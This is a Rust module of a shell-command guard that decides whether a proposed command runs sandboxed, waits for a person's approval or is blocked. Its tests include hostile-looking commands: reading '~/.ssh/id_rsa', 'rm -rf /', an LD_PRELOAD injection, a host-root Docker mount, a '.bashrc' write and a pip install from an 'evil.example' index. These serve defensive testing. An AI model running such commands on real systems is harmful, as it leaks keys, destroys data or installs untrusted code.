//! The way in which the guard runs a line, and whether a person is asked first: one function for the whole line
//! (feature N1).
//!
//! Policy alone runs lines only in a cell that can do no harm, except for the few commands of `policy/strict/daemon.rs`.
//! Objections that exist only because a line is not known before it runs are void in such a cell.

use uuid::Uuid;

use crate::action::{Action, Way};
use crate::policy::grant::Covered;
use crate::policy::history::OverrideKind;
use crate::policy::strict::daemon::{Asks, RULES};
use crate::policy::{CommandShape, Finding, Hindrance, Origin, Policy, Situation, Tag, Verdict};

use super::cells::{Cells, RunDecision};
use super::judgement::Judgement;

impl Judgement {
    /// Whether a person is asked if the guard itself runs it, and in which way. [`Judgement::verdict`] is for a caller
    /// who would run it.
    #[must_use]
    pub fn run(&self) -> RunDecision {
        decide(self, self.cells)
    }
}

/// What only the machine itself has: its processes, devices, services and desktop.
const OF_MACHINE: &[Tag] = &[
    Tag::Privilege,
    Tag::Power,
    Tag::Process,
    Tag::Disk,
    Tag::Keys,
    Tag::System,
    Tag::Desktop,
    Tag::Radio,
    Tag::Screen,
    Tag::Suspend,
];

impl Judgement {
    /// Whether the changes of a line that runs after a yes to its words ([`Way::Act`]) are held back and judged at its end.
    #[must_use]
    pub fn is_held_back(&self) -> bool {
        self.can_be_held_back() && self.run().way == Some(Way::Act)
    }

    /// Whether they could be, if it runs so.
    fn can_be_held_back(&self) -> bool {
        // What a yes given before covers is allowed, and still is what it is.
        let permitted = self.is_settled() || self.is_granted();
        let real = |finding: &Finding| {
            (permitted || finding.verdict > Verdict::Allow) && finding.is_about_any(OF_MACHINE)
        };
        self.cells.held
            && self.cells.asks == Asks::Nothing
            && self.effects.is_none()
            && self.network.whole.is_empty()
            && !self.findings.iter().any(real)
    }

    /// Whether a person has said *always* to exactly this command, and nothing objects to that.
    #[must_use]
    pub fn is_settled(&self) -> bool {
        is_settled(self)
    }

    /// Whether grants cover all that was to be asked about its words. Other objections ask as ever.
    #[must_use]
    pub fn is_granted(&self) -> bool {
        self.granted_by().next().is_some()
    }

    /// The grants that cover its words.
    pub fn granted_by(&self) -> impl Iterator<Item = Uuid> {
        let granted = |finding: &&Finding| finding.rule == GRANTED && finding.origin == Origin::Registry;
        let names = self.findings.iter().filter(granted).flat_map(|finding| &finding.names);
        names.filter_map(|name| name.parse().ok())
    }

    /// The shape that a person may be offered to grant: what is asked about its words, and nothing else.
    ///
    /// # Errors
    /// Why there is none.
    pub fn shape(&self, policy: &Policy, situation: &Situation) -> Result<CommandShape, Hindrance> {
        let Action::RunCommand { script: Ok(script), .. } = &self.subject.action else {
            return Err(Hindrance::NoCommand);
        };
        if situation.secret {
            return Err(Hindrance::Tainted);
        }
        let restricted = |finding: &Finding| {
            finding.origin == Origin::Registry && !finding.contained && finding.verdict > Verdict::Allow
        };
        if self.effects.is_some() || self.findings.iter().any(restricted) {
            return Err(Hindrance::EachTime);
        }
        let Covered { by: shape, staged, .. } = policy.shape(script, situation, &self.findings)?;
        if staged && !self.is_held_back() { Err(Hindrance::Launcher) } else { Ok(shape) }
    }

    /// Lets the grants of its asker cover what is asked about its words. Its changes are judged as ever.
    pub(super) fn granted(self, policy: &Policy, situation: &Situation) -> Self {
        let Action::RunCommand { script: Ok(script), .. } = &self.subject.action else { return self };
        // What a marked session sends could be a secret.
        if situation.secret || self.verdict() == Verdict::Allow {
            return self;
        }
        let Some(Covered { by, reasons, staged }) = policy.grants_for(script, situation, &self.findings)
        else {
            return self;
        };
        let mut granted = self.clone();
        for (place, finding) in granted.findings.iter_mut().enumerate() {
            match reasons.contains(&place) {
                true => finding.verdict = Verdict::Allow,
                // What is left is void where its changes are held back, and otherwise keeps the question.
                false => finding.contained = true,
            }
        }
        let by: Vec<String> = by.iter().map(Uuid::to_string).collect();
        let why = format!("a person granted this beforehand: {}", by.join(", "));
        let finding = Finding::new(GRANTED, Origin::Registry, Verdict::Allow, 0.0, why);
        let granted = granted.raise(Finding { names: by, tags: vec![Tag::Registry], ..finding });
        let whole = granted.verdict() == Verdict::Allow && !staged;
        if whole || granted.can_be_held_back() { granted } else { self }
    }
}

/// The rule of the finding that says by which grants a line is covered.
const GRANTED: &str = "granted";

fn decide(judgement: &Judgement, cells: Cells) -> RunDecision {
    let text = judgement.verdict();
    let open = judgement.held();
    if open == Verdict::Block {
        return RunDecision { verdict: open, way: None };
    }
    if !matches!(judgement.subject.action, Action::RunCommand { .. }) {
        return RunDecision { verdict: text, way: Some(Way::None) };
    }
    // It has run, and its changes are known: the words no longer count.
    if judgement.effects.is_some() {
        return RunDecision { verdict: text, way: Some(Way::Stage) };
    }
    let after_yes = if cells.unconfined || open == Verdict::Password { Way::None } else { Way::Act };
    if is_settled(judgement) {
        return RunDecision { verdict: text, way: Some(after_yes) };
    }
    if open == Verdict::Allow
        && judgement.is_granted()
        && (text == Verdict::Allow || judgement.can_be_held_back())
    {
        return RunDecision { verdict: Verdict::Allow, way: Some(after_yes) };
    }
    // The words of a query to a service could carry data elsewhere.
    if open == Verdict::Allow
        && cells.asks == Asks::Plainly
        && is_believed(judgement)
        && !judgement.taint.secret
    {
        return RunDecision { verdict: Verdict::Allow, way: Some(Way::None) };
    }
    // A cell has no services and no other machines, so such a command would only fail there.
    let elsewhere =
        |finding: &Finding| !finding.contained && finding.is_about_any(&[Tag::Remote, Tag::Network]);
    if open == Verdict::Allow && (cells.asks != Asks::Nothing || judgement.findings().iter().any(elsewhere)) {
        return RunDecision { verdict: Verdict::Confirm, way: Some(after_yes) };
    }
    if cells.stage && open != Verdict::Allow && !cells.unconfined && can_be_staged(judgement) {
        return RunDecision { verdict: Verdict::Allow, way: Some(Way::Stage) };
    }
    match (open, cells.there) {
        (Verdict::Allow, true) => RunDecision { verdict: Verdict::Allow, way: Some(Way::Look) },
        (Verdict::Allow, false) if text == Verdict::Block => RunDecision { verdict: text, way: None },
        (Verdict::Allow, false) => RunDecision { verdict: Verdict::Confirm, way: Some(Way::Act) },
        _ => RunDecision { verdict: open, way: Some(after_yes) },
    }
}

/// Whether all runs are believed by their words, but for those that are known to only query a service: no cell holds them.
fn is_believed(judgement: &Judgement) -> bool {
    let asks = |finding: &Finding| finding.contained && RULES.contains(&finding.rule.as_str());
    judgement.findings().iter().all(|finding| finding.verdict == Verdict::Allow || asks(finding))
}

/// Whether a person has said *always* to exactly this command, and nothing objects to that.
fn is_settled(judgement: &Judgement) -> bool {
    let standing = judgement.history.as_ref().and_then(|history| history.user_override.as_ref());
    judgement.verdict() == Verdict::Allow
        && standing.is_some_and(|word| word.kind == OverrideKind::AlwaysAllow)
}

/// Whether the only objection to a line is what it may change. Then it runs where its changes are held back, and its
/// effects are judged in place of its words. Reasons from a person's configuration, the registry or the caller are kept
/// for that judgement ([`Finding::outlasts`]).
pub(super) fn can_be_staged(judgement: &Judgement) -> bool {
    let beyond = |finding: &Finding| {
        finding.verdict > Verdict::Allow
            && !finding.contained
            && (finding.verdict > Verdict::Confirm || !finding.is_about_changes())
    };
    !judgement.findings().iter().any(beyond)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::action::{Proposal, Request};
    use crate::policy::Situation;
    use crate::policy::{History, Policy, Profile, corpus};

    fn judged(line: &str, change: impl FnOnce(&mut Situation)) -> Judgement {
        let request = Request {
            action: Some("RUN_COMMAND".to_owned()),
            target: Some(line.into()),
            ..Request::default()
        };
        let proposal = Proposal::parse(request).unwrap();
        let Action::RunCommand { script, .. } = &proposal.action else { unreachable!() };
        let mut situation = corpus::situation(script);
        situation.cells = true;
        change(&mut situation);
        super::super::judge(&Policy::builtin(Profile::Desktop).unwrap(), proposal, &situation)
    }

    #[test]
    fn the_way_is_one_for_the_whole_line() {
        use Verdict::{Allow, Block, Confirm};
        for (line, verdict, way) in [
            ("ls -l", Allow, Some(Way::Look)),
            ("for f in *.rs; do wc -l \"$f\"; done", Allow, Some(Way::Look)),
            ("cat $(git ls-files)", Allow, Some(Way::Look)),
            ("X=$(date) ls", Allow, Some(Way::Look)),
            ("systemctl status nginx", Allow, Some(Way::None)),
            ("systemctl status nginx; ls", Allow, Some(Way::None)),
            ("systemctl status nginx | head", Allow, Some(Way::None)),
            // In a cell it would only fail.
            ("timeout 5 systemctl status nginx", Confirm, Some(Way::Act)),
            ("journalctl -u nginx | tail", Allow, Some(Way::Look)),
            ("systemctl cat nginx", Confirm, Some(Way::Act)),
            ("kubectl get secrets", Confirm, Some(Way::Act)),
            ("kubectl get pods", Allow, Some(Way::None)),
            ("gh pr view 12 | head -20", Allow, Some(Way::None)),
            ("docker ps 2>/dev/null | grep web", Allow, Some(Way::None)),
            ("cd x && docker compose ps && ls", Allow, Some(Way::None)),
            ("docker ps && git status", Allow, Some(Way::None)),
            // Not each of the others is known by its words.
            ("gh pr view 12 | frobnicate", Confirm, Some(Way::Act)),
            ("gh pr view 12 | sed 1e", Confirm, Some(Way::Act)),
            ("gh pr view 12 > x", Confirm, Some(Way::Act)),
            ("cd x && docker ps && git status", Confirm, Some(Way::Act)),
            ("docker ps; ./x", Confirm, Some(Way::Act)),
            ("docker ps | python3 -c 1", Confirm, Some(Way::Act)),
            ("az vm list | grep web", Confirm, Some(Way::Act)),
            ("psql -l", Confirm, Some(Way::Act)),
            // Unknown words of a program do not hide that the program is unknown.
            ("env A=1 frobnicate a b", Confirm, Some(Way::Act)),
            ("LD_PRELOAD=./x.so frobnicate", Confirm, Some(Way::Act)),
            ("rm x", Confirm, Some(Way::Act)),
            ("rm x; systemctl status nginx", Confirm, Some(Way::Act)),
            ("cat ~/.ssh/id_rsa", Confirm, Some(Way::Act)),
            ("for f in *; do rm $f; done", Confirm, Some(Way::Act)),
            ("ls > out", Confirm, Some(Way::Act)),
            ("sudo ls", Verdict::Password, Some(Way::None)),
            ("rm -rf /", Block, None),
            // The program itself reports that it has no such command.
            ("cargo biuld", Allow, Some(Way::Look)),
            ("docker pss -a", Allow, Some(Way::Look)),
            ("apt-get instal jq", Allow, Some(Way::Look)),
            ("npm intsall left-pad", Allow, Some(Way::Look)),
            ("systemctl statsu nginx | cat", Allow, Some(Way::Look)),
            ("cargo biuld; ls", Allow, Some(Way::Look)),
            ("cargo biuld && rm x", Confirm, Some(Way::Act)),
            ("cargo biuld > out", Confirm, Some(Way::Act)),
            ("sudo apt-get instal jq", Verdict::Password, Some(Way::None)),
            ("systemctl restart nginx", Confirm, Some(Way::Act)),
            // Bash itself reports the error.
            ("'", Allow, Some(Way::Look)),
            ("ls 'open; rm x", Allow, Some(Way::Look)),
            ("ls \\\n'open", Confirm, Some(Way::Act)),
            ("rm x\nls '", Confirm, Some(Way::Act)),
            ("rm x # \\\nls '", Confirm, Some(Way::Act)),
            ("rm x \\\\\nls '", Confirm, Some(Way::Act)),
        ] {
            let judgement = judged(line, |_| {});
            assert_eq!(judgement.run(), RunDecision { verdict, way }, "{line}: {:?}", judgement.findings());
        }
    }

    /// A word that may be a plugin or an alias is asked about as any command.
    #[test]
    fn a_word_is_misspelt_only_where_nothing_has_its_name() {
        let asked = RunDecision { verdict: Verdict::Confirm, way: Some(Way::Act) };
        for line in ["cargo biuld", "docker pss", "kubectl gte pods"] {
            let judgement = judged(line, |_| {});
            assert_eq!(judgement.verdict(), Verdict::Block, "{line}");
            let told = |finding: &Finding| finding.why.contains("did you mean");
            assert!(judgement.findings().iter().any(told), "{line}");
            let judgement = judged(line, |situation| situation.missing.clear());
            assert_eq!((judgement.verdict(), judgement.run()), (Verdict::Confirm, asked), "{line}");
        }
    }

    /// Its shell says that it is not there. What would be grave is asked about all the same.
    #[test]
    fn a_program_that_is_not_there_does_nothing() {
        use crate::policy::Program;
        use Verdict::{Allow, Confirm};
        for (line, name, verdict) in [
            ("gh pr create", "gh", Allow),
            ("gh pr list | head", "gh", Allow),
            ("docker build .", "docker", Allow),
            ("systemctl restart nginx", "systemctl", Allow),
            ("gh repo delete a/b --yes", "gh", Confirm),
            ("aws s3 rm s3://x --recursive", "aws", Confirm),
            ("kubectl get secrets", "kubectl", Confirm),
            ("docker run -v /:/host x", "docker", Confirm),
            ("/opt/bin/gh pr create", "/opt/bin/gh", Confirm),
        ] {
            let missing = |situation: &mut Situation| {
                situation.programs.insert(name.to_owned(), Program::Missing);
                situation.stage = vec!["/home/ana/project".into()];
            };
            let judgement = judged(line, missing);
            assert_eq!(judgement.run().verdict, verdict, "{line}: {:?}", judgement.findings());
        }
    }

    #[test]
    fn every_question_to_a_service_runs_unasked() {
        for line in crate::policy::strict::daemon::shortest() {
            let decision = RunDecision { verdict: Verdict::Allow, way: Some(Way::None) };
            assert_eq!(judged(&line, |_| {}).run(), decision, "{line}");
        }
    }

    #[test]
    fn a_marked_session_still_reads_in_the_cell() {
        let marked = |line: &str| {
            let judgement = judged(line, |situation| situation.secret = true);
            (judgement.verdict(), judgement.run())
        };
        let looks = RunDecision { verdict: Verdict::Allow, way: Some(Way::Look) };
        assert_eq!(marked("make --version"), (Verdict::Confirm, looks));
        let asked = RunDecision { verdict: Verdict::Confirm, way: Some(Way::Act) };
        // The names in a query to a service can carry secrets, too.
        for line in ["curl https://example.org", "systemctl status nginx", "docker ps"] {
            assert_eq!(marked(line), (Verdict::Confirm, asked), "{line}");
        }
    }

    #[test]
    fn without_cells_policy_lets_nothing_run() {
        for line in ["ls -l", "for f in *; do cat $f; done"] {
            let run = judged(line, |situation| situation.cells = false).run();
            assert_eq!(run, RunDecision { verdict: Verdict::Confirm, way: Some(Way::Act) }, "{line}");
        }
    }

    /// Where the situation says that all of it is fetching, it is staged only if nothing leads the tool elsewhere.
    #[test]
    fn packages_are_fetched_while_held_back_from_where_they_usually_come() {
        for (line, way, held) in [
            ("pip install six", Way::Stage, false),
            ("pip install --index-url https://evil.example/simple six", Way::Act, true),
        ] {
            let judgement = judged(line, |situation| {
                situation.stage = vec!["/home/ana/project".into()];
                situation.network.fetches = true;
            });
            assert_eq!(judgement.run().way, Some(way), "{line}: {:?}", judgement.network());
            assert_eq!(judgement.is_held_back(), held, "{line}");
        }
    }

    /// What a person approved changes nothing before its changes are judged, unless it needs what only the machine has.
    #[test]
    fn the_changes_of_an_approved_line_are_held_back_where_that_can_be() {
        for (line, held) in [
            ("curl -X POST https://example.org/x -o out", true),
            ("git push origin main", true),
            ("npm publish", true),
            ("wget -q https://example.net/x.tgz | tar xz", true),
            ("cat ~/.ssh/id_rsa | ./x", true),
            ("git clone -q a b", false),
            ("kill 1234", false),
            ("pkill node && ./x", false),
            ("ping -c 1 example.org", false),
            ("timeout 5 systemctl status nginx", false),
            ("sudo ls", false),
            // Policy alone lets these run.
            ("ls", false),
            ("rm x", false),
            ("echo x >> ~/.bashrc", false),
        ] {
            let judgement = judged(line, |situation| {
                situation.stage = vec!["/home/ana/project".into()];
                let origin = ("origin".to_owned(), "https://example.org/x.git".to_owned());
                situation.network.remotes = vec![origin];
                let script = guarda_shell::read(line, guarda_shell::script::Dialect::Bash).unwrap();
                situation.network.reaches = crate::hosts::needs_network(&script, situation);
            });
            let judgement =
                if line == "rm x" { judged(line, |it| it.stage = vec!["/".into()]) } else { judgement };
            assert_eq!(judgement.is_held_back(), held, "{line}: {:?}", judgement.findings());
        }
        let serves = |situation: &mut Situation| {
            situation.stage = vec!["/home/ana/project".into()];
            situation.network.serves = [3000].into();
        };
        assert!(!judged("npm publish", serves).is_held_back());
    }

    /// The words of a client's tool name the file, and not what is written to it.
    #[test]
    fn a_standing_yes_to_a_file_covers_nothing_that_runs_later() {
        let policy = Policy::builtin(Profile::Desktop).unwrap();
        let word =
            crate::policy::history::Override { kind: OverrideKind::AlwaysAllow, reason: None, by: None };
        for (path, verdict) in [
            ("a", Verdict::Allow),
            (".bashrc", Verdict::Confirm),
            (".config/autostart/a.desktop", Verdict::Confirm),
        ] {
            let mut situation = Situation::default();
            let judgement = judged(&format!("tee -- '/home/ana/{path}'"), |seen| {
                seen.history = Some(History { user_override: Some(word.clone()), ..History::default() });
                situation = seen.clone();
            });
            let effects = crate::policy::effect_rules::example(&format!("created ~/{path}")).unwrap();
            let judgement = judgement.announcing(&policy, effects.into(), &situation);
            assert_eq!(judgement.verdict(), verdict, "{path}: {:?}", judgement.findings());
        }
    }

    #[test]
    fn a_standing_yes_is_a_persons() {
        let word =
            crate::policy::history::Override { kind: OverrideKind::AlwaysAllow, reason: None, by: None };
        let history = History { user_override: Some(word), ..History::default() };
        let run = judged("frobnicate --all", |situation| situation.history = Some(history)).run();
        assert_eq!(run, RunDecision { verdict: Verdict::Allow, way: Some(Way::Act) });
        // A policy learned from a good record is nobody's yes.
        let learned = crate::policy::history::Learned::AutoApprove;
        let history = History { learned, runs: 30, successes: 30, ..History::default() };
        let run = judged("frobnicate --all", |situation| situation.history = Some(history)).run();
        assert_eq!(run, RunDecision { verdict: Verdict::Allow, way: Some(Way::Look) });
    }
}
